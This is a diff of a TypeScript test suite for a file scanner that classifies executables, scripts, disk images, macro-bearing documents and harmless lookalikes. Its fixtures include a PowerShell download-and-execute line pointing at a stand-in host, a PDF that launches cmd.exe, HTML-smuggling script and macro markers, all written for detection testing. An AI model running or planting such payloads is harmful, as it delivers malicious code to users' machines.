@@ -6,11 +6,14 @@ import {
   docx,
   linuxProgram,
   macProgram,
+  odt,
   pdf,
   png,
   windowsProgram,
   windowsShortcut,
+  xlsx,
 } from '../../test/support/documents.ts';
+import { zip } from '../../test/support/zip.ts';
 import { loadBasicRules } from './basic-rules.ts';
 import { Tally, windows } from './basic-scan.ts';
 import { BasicEngine } from './basic.ts';
@@ -28,6 +31,40 @@ const smuggling = (payload: string): Uint8Array =>
     `var d = atob("${payload}"); var b = new Blob([d]); var a = document.createElement('a'); a.download = 'x.iso';`,
   );
 
+const hex = (...words: string[]): Uint8Array => new Uint8Array(Buffer.from(words.join(''), 'hex'));
+const utf16 = (text: string): Uint8Array => new Uint8Array(Buffer.from(text, 'utf16le'));
+const concat = (...parts: Uint8Array[]): Uint8Array => new Uint8Array(Buffer.concat(parts));
+/** Zeros, and this at a place in them. */
+const at = (offset: number, content: Uint8Array): Uint8Array =>
+  concat(new Uint8Array(offset), content, new Uint8Array(4096));
+/** A compound file in name only, with this in it. */
+const ole = (content: Uint8Array): Uint8Array =>
+  concat(hex('d0cf11e0a1b11ae1'), new Uint8Array(1016), content, new Uint8Array(512));
+/** [MS-XLS] 2.4.28: a sheet of macros with a name of four letters, and a sheet of cells. */
+const excel4Sheet = hex('8500', '0c00', '00010000', '00', '01', '04', '00', '4d616372');
+const plainSheet = hex('8500', '0c00', '00010000', '00', '00', '04', '00', '426c6164');
+/** A program whose header stands at this place. */
+function programAt(header: number): Uint8Array {
+  const program = Buffer.alloc(1024);
+  program.write('MZ\xff\xff', 'latin1');
+  program.writeUInt32LE(header, 0x3c);
+  program.write('PE\0\0', header, 'latin1');
+  return new Uint8Array(program);
+}
+/** [MS-ONESTORE] 2.3.1 and 2.6.13. */
+const ONENOTE = 'e4525c7b8cd8a74daeb15378d02996d3';
+const ONENOTE_FILE = 'e716e3bd65261145a4c48d4d0b7a9eac';
+const ABOUT_COMPUTERS =
+  'Beste collega,\r\n\r\nDe knop werkt niet. Zet echo off in het batchbestand, zegt Kees, en gebruik in PowerShell' +
+  ' het commando Get-Process of Start-Process. In de macro staat CreateObject, en vbaProject.bin zit in het bestand.' +
+  '\r\nGa naar C:\\Temp, als het bestaat (if exist). #! staat vooraan in een script. function is een JavaScript-woord.' +
+  '\r\nDe link naar [InternetShortcut] mag weg. tell application is AppleScript.\r\n\r\nGroet';
+const HTML_MAIL =
+  '<!doctype html><html><head><meta charset="utf-8"><style>p { color: #333 }</style><!--[if mso]><xml>' +
+  '<o:OfficeDocumentSettings></o:OfficeDocumentSettings></xml><![endif]--></head><body><p>Uw afspraak</p>' +
+  '<a href="https://zorg.example/download?x=1" download>Folder</a><img src="data:image/png;base64,iVBORw0KGgo=">' +
+  '<a href="data:text/plain,hallo">tekst</a></body></html>';
+
 describe('the built-in engine', () => {
   test.each<[string, Uint8Array]>([
     ['a Windows program', windowsProgram],
@@ -44,12 +81,86 @@ describe('the built-in engine', () => {
       'a PDF that hides its JavaScript',
       pdf(['x'], { catalog: '/OpenAction << /S /J#61vaScript /J#53 (1) >>' }),
     ],
+    ['a Windows program without a page count', programAt(0x100)],
+    ['a Windows installer', ole(hex('84100c0000000000c000000000000046'))],
+    ['Windows help', hex('49545346', '03000000', '60000000')],
+    ['a fat macOS program', hex('cafebabe', '00000002', '01000007')],
+    ['a Java class', hex('cafebabe', '00000034', '001d0a00')],
+    ['a Java archive', zip([{ name: 'META-INF/MANIFEST.MF', content: bytes('x') }])],
+    ['an Android app', zip([{ name: 'classes.dex', content: bytes('x') }])],
+    ['Android code', hex('6465780a', '30333500', '00000000')],
+    ['WebAssembly', hex('0061736d', '01000000')],
+    ['a Python script', bytes('#!/usr/bin/env python3\nprint(1)\n')],
+    ['a script behind a byte order mark', bytes('\uFEFF#!/bin/bash\n')],
+    ['a batch file that begins otherwise', bytes('\r\nsetlocal enabledelayedexpansion\r\n')],
+    [
+      'a batch file told by its lines',
+      bytes('cd %~dp0\r\nif not exist a.txt goto einde\r\nstart "" a.exe\r\ngoto einde\r\n:einde\r\n'),
+    ],
+    ['a PowerShell script', bytes('$x = New-Object Foo\nStart-Process -File a\nRemove-Item "b"\n')],
+    [
+      'PowerShell from the network',
+      bytes('iex (New-Object Net.WebClient).DownloadString("https://a.example")'),
+    ],
+    ['a JScript', bytes('var a = new ActiveXObject("WScript.Shell");')],
+    ['the same in UTF-16', utf16('var a = new ActiveXObject("WScript.Shell");')],
+    ['a WSF', bytes('<package>\n<job id="a">\n<script language="VBScript">')],
+    ['an HTA', bytes('<html><head><HTA:APPLICATION ID="a">')],
+    ['VBScript that hides its errors', bytes('On Error Resume Next\r\nExecute(x)\r\n')],
+    ['AppleScript', bytes('tell application "Finder"\n  activate\nend tell\n')],
+    ['AppleScript that was compiled', bytes('FasdUAS 1.101.10\x0e')],
+    ['a registry file', utf16('\uFEFFWindows Registry Editor Version 5.00\r\n')],
+    ['an address on the desktop (.url)', bytes('[InternetShortcut]\r\nURL=file://a.example/b\r\n')],
+    ['a starter (.desktop)', bytes('[Desktop Entry]\nType=Application\nExec=sh -c x\n')],
+    ['an address of macOS (.webloc)', bytes('<?xml?><plist version="1.0"><dict>\n<key>URL</key>')],
+    ['a library of Windows', bytes('<?xml version="1.0"?><libraryDescription xmlns="x">')],
+    ['a saved search', bytes('<?xml version="1.0"?><persistedQuery version="1.0">')],
+    ['a workbook with an Excel 4 macro sheet', ole(excel4Sheet)],
+    ['a document with a packed file', compound('\x01Ole10Native')],
+    ['an OpenDocument with a macro', zip([{ name: 'Basic/Standard/script-lb.xml', content: bytes('x') }])],
+    ['an RTF with a packed file', bytes('{\\rtf1 {\\object\\objemb{\\*\\objclass Package}}}')],
+    ['a notebook with a file in it', concat(hex(ONENOTE), new Uint8Array(5_000_000), hex(ONENOTE_FILE))],
     ['a PDF that starts a program', pdf(['x'], { catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' })],
   ])('cannot judge %s', async (_, content) => {
     expect(await scan(content)).toEqual(unjudged);
   });
 
   test.each<[string, Uint8Array]>([
+    ['a CD', at(0x8001, bytes('CD001'))],
+    ['a disc in UDF', at(0x8801, bytes('NSR02'))],
+    ['a virtual disk', at(0, bytes('conectix'))],
+    [
+      'a virtual disk of fixed size',
+      concat(new Uint8Array(5_000_000), bytes('conectix'), new Uint8Array(504)),
+    ],
+    ['a volume', concat(at(54, bytes('FAT16   ')).subarray(0, 510), hex('55aa'), new Uint8Array(512))],
+    [
+      'a disk image of macOS',
+      concat(new Uint8Array(9_000), hex('6b6f6c790000000400000200'), new Uint8Array(500)),
+    ],
+  ])('did not look into %s', async (_, content) => {
+    expect(await scan(content)).toEqual({ verdict: 'unscannable', reason: 'archive_not_read' });
+  });
+
+  test.each<[string, Uint8Array]>([
+    ['a letter about computers', bytes(ABOUT_COMPUTERS)],
+    ['the same in UTF-16', utf16(ABOUT_COMPUTERS)],
+    ['a mail in HTML', bytes(HTML_MAIL)],
+    ['a mail as it is sent', bytes(`From: a@example.org\r\nSubject: x\r\n\r\n${HTML_MAIL}`)],
+    ['a workbook', xlsx(['macro', 12])],
+    ['an OpenDocument text', odt(['Basic/Standard'])],
+    ['an old workbook', ole(plainSheet)],
+    ['a signed archive of documents', zip([{ name: 'META-INF/manifest.xml', content: bytes('x') }])],
+    ['an archive with a name of Java', zip([{ name: 'over class.txt', content: bytes('x') }])],
+    ['a notebook', hex(ONENOTE)],
+    [
+      'rich text with a picture',
+      bytes('{\\rtf1 {\\pict\\pngblip 89504e47}{\\object\\objclass Excel.Sheet.8}}'),
+    ],
+    ['a calendar', bytes('BEGIN:VCALENDAR\r\nURL:https://a.example\r\nEND:VCALENDAR\r\n')],
+    ['settings', bytes('[Mail]\r\nURL=https://a.example\r\n')],
+    ['a list in CSV', bytes('naam;bedrag\r\nset;12\r\ncall;13\r\n')],
+    ['a PDF that goes to a page', pdf(['x'], { catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] >>' })],
     ['a PDF', pdf(['Een brief over JavaScript en /Launch'])],
     ['a Word document', docx(['vba'])],
     ['a picture', png],
